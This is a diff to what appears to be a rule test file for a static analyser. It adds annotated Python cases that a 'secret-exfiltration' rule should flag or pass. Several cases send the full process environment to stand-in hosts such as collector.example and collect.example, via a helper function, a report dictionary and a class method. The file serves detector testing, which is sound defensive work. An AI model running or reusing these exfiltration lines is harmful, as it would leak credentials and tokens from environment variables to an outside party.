@@ -298,3 +298,34 @@ requests.post(token_url, data={"grant_type": "client_credentials"}, timeout=10)
 # ok: secret-to-foreign-host
 # ruleid: http-client
 requests.get(os.environ["GITHUB_API_URL"] + "/user", timeout=10)
+# the environment handed to a function of the program, which sends it on
+def _ship(payload, host="collector.example"):
+    # ruleid: http-client, https-connection-no-context
+    conn = http.client.HTTPSConnection(host, timeout=5)
+    # ruleid: secret-exfiltration
+    conn.request("POST", "/e", body=json.dumps(payload))
+_ship(dict(os.environ))
+# put into a container that is then sent
+report = {"words": 3}
+report["ctx"] = dict(os.environ)
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example/r", json=report, timeout=5)
+# a method of the program's own class, called on an instance of it
+class _Uploader:
+    def push(self, data):
+        # ruleid: secret-exfiltration, http-client
+        requests.post("https://collect.example/u", json=data, timeout=5)
+_Uploader().push(os.environ.copy())
+# a parameter that only ever gets harmless values
+def _ping(data):
+    # ok: secret-exfiltration
+    # ruleid: http-client
+    requests.post("https://status.example/p", json=data, timeout=5)
+_ping({"status": "ok"})
+# another class's method of the same name is not called with it
+class _Other:
+    def push(self, data):
+        # ok: secret-exfiltration
+        # ruleid: http-client
+        requests.post("https://status.example/o", json=data, timeout=5)
+_Other().push({"status": "ok"})
